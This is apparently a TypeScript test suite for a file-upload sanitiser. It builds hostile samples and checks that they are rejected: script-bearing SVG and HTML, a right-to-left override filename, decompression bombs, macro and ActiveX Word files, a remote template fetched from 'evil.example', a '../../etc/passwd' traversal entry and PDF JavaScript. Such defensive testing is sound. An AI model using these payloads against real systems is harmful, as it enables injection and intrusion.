import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Rejection } from '../../../domain/file/rejections.ts';
import { cleanPdf } from '../../../functions/inspect-file/aside.ts';
import { clean } from '../../../functions/inspect-file/clean.ts';
import { Rejected } from '../../../functions/inspect-file/rejected.ts';
import { chunk, docx, jpeg, pdf, png, pngOf, pngWith, xlsx } from './samples.ts';

const bytes = (text: string): Uint8Array => Buffer.from(text);
const join = (...parts: readonly Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));
const half = (whole: Uint8Array): Uint8Array => whole.subarray(0, Math.floor(whole.length / 2));

/** The verdict on it: a reason, or the type as which it was taken. */
async function verdict(file: Uint8Array): Promise<Rejection | string> {
  try {
    return (await clean(file, cleanPdf)).type;
  } catch (error) {
    if (error instanceof Rejected) return error.rejection;
    throw error;
  }
}

/** A jpeg that says it is larger than it is. */
function claiming(width: number, height: number): Uint8Array {
  const file = Buffer.from(jpeg());
  const frame = file.indexOf(Buffer.of(0xff, 0xc0));
  file.writeUInt16BE(height, frame + 5);
  file.writeUInt16BE(width, frame + 7);
  return file;
}

/** A zip whose first part says that it unpacks to so many bytes. */
function declaring(zip: Uint8Array, size: number): Uint8Array {
  const file = Buffer.from(zip);
  file.writeUInt32LE(size, file.indexOf(Buffer.from('PK\x01\x02', 'latin1')) + 24);
  return file;
}

const relationship = (type: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const HOSTILE: readonly (readonly [
  what: string,
  file: () => Uint8Array | Promise<Uint8Array>,
  verdict: Rejection,
])[] = [
  ['nothing', () => new Uint8Array(), 'empty'],
  ['a program', () => join(bytes('MZ\x90\x00\x03'), new Uint8Array(100)), 'type-unsupported'],
  [
    'a program of Linux',
    () => join(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0), new Uint8Array(50)),
    'type-unsupported',
  ],
  ['a GIF', () => join(bytes('GIF89a'), Uint8Array.of(1, 0, 1, 0, 0, 0, 0)), 'type-unsupported'],
  [
    'an old Word document',
    () => join(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), new Uint8Array(600)),
    'type-unsupported',
  ],
  [
    'a Word document with a password',
    () =>
      join(
        Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ),
    'encrypted',
  ],
  ['an SVG', () => bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'active-content'],
  ['a page of HTML', () => bytes('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'active-content'],
  [
    'HTML behind harmless text',
    () => bytes('关于公示的说明\n\n< script src=//x></script>'),
    'active-content',
  ],
  [
    'XML that may be anything',
    () => bytes('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a/>'),
    'active-content',
  ],
  ['text with what turns the line round', () => bytes('发票\u202Egpj.exe'), 'type-unsupported'],
  ['text with a zero byte', () => bytes('公示\0公示'), 'type-unsupported'],
  ['a JPEG cut off in its scan', () => half(jpeg()), 'damaged'],
  ['a JPEG cut off in its head', () => jpeg().subarray(0, 30), 'damaged'],
  ['a JPEG that is only a beginning', () => Uint8Array.of(0xff, 0xd8, 0xff), 'damaged'],
  [
    'HTML that begins like a JPEG',
    () => join(Uint8Array.of(0xff, 0xd8, 0xff), bytes('<script>alert(1)</script>')),
    'damaged',
  ],
  ['a JPEG of four thousand million pixels', () => claiming(65_535, 65_535), 'too-many-pixels'],
  ['a JPEG that claims more than it holds', () => claiming(4_000, 3_000), 'damaged'],
  ['a PNG cut off', () => half(png()), 'damaged'],
  ['a PNG with a broken checksum', () => Buffer.from(png()).fill(7, 29, 33), 'damaged'],
  [
    'a PNG of four thousand million pixels',
    () => pngOf(65_535, 65_535, new Uint8Array(10)),
    'too-many-pixels',
  ],
  [
    'a PNG that unpacks to a thousand times its size',
    () => pngOf(10, 10, new Uint8Array(50_000_000)),
    'archive-bomb',
  ],
  ['a PNG whose data are no data', () => pngWith(chunk('IDAT', bytes('nonsense'))), 'damaged'],
  ['a zip of anything', () => zipSync({ 'a.txt': bytes('hello') }), 'type-unsupported'],
  ['a jar', () => zipSync({ 'META-INF/MANIFEST.MF': bytes('Main-Class: X') }), 'type-unsupported'],
  ['a Word document cut off', () => half(docx([['好']])), 'damaged'],
  [
    'a Word document with macros',
    () => docx([['好']], { 'word/vbaProject.bin': bytes('vba') }),
    'active-content',
  ],
  [
    'a document with macros that calls itself docx',
    () =>
      docx([['好']], {
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    'active-content',
  ],
  [
    'a Word document with an embedded program',
    () => docx([['好']], { 'word/embeddings/oleObject1.bin': bytes('MZ') }),
    'active-content',
  ],
  [
    'a Word document with a control',
    () => docx([['好']], { 'word/activeX/activeX1.xml': '<ax/>' }),
    'active-content',
  ],
  [
    'a Word document that fetches its template',
    () =>
      docx([['好']], {
        'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'http://evil.example/t.dotm'),
      }),
    'active-content',
  ],
  [
    'a Word document with an entity',
    () => docx([['好']], { 'word/document.xml': '<!DOCTYPE d [<!ENTITY a "b">]><w:document/>' }),
    'active-content',
  ],
  ['a Word document whose part climbs out', () => docx([['好']], { '../../etc/passwd': 'root' }), 'damaged'],
  [
    'a Word document that unpacks to hundreds of megabytes',
    () => declaring(docx([['好']]), 200 * 1024 * 1024),
    'archive-bomb',
  ],
  [
    'a Word document of ten thousand parts',
    () => docx([['好']], Object.fromEntries(Array.from({ length: 6_000 }, (_, n) => [`word/p${n}.xml`, '']))),
    'archive-bomb',
  ],
  [
    'a PDF that runs a script',
    () => pdf(['hi'], (d) => void d.addJavaScript('x', 'app.alert(1)')),
    'active-content',
  ],
  [
    'a PDF with a file in it',
    () => pdf(['hi'], (d) => void d.attach(bytes('MZ'), 'a.exe')),
    'active-content',
  ],
  ['a PDF cut off', async () => half(await pdf(['hi'])), 'damaged'],
  ['HTML that begins like a PDF', () => bytes('%PDF-1.7\n<script>alert(1)</script>'), 'damaged'],
];

describe('what nobody gets to see', () => {
  it.each(HOSTILE)('%s', async (_, file, expected) => {
    expect(await verdict(await file())).toBe(expected);
  });

  it('what is harmless of the same kinds is taken', async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(25);
    for (const [file, type] of [
      [jpeg(), 'jpeg'],
      [png(), 'png'],
      [docx([['好']]), 'docx'],
      [xlsx('<c><v>1</v></c>'), 'xlsx'],
      [await pdf(['hi']), 'pdf'],
      [bytes('公示'), 'text'],
    ] as const) {
      expect(await verdict(file)).toBe(type);
    }
  });
});
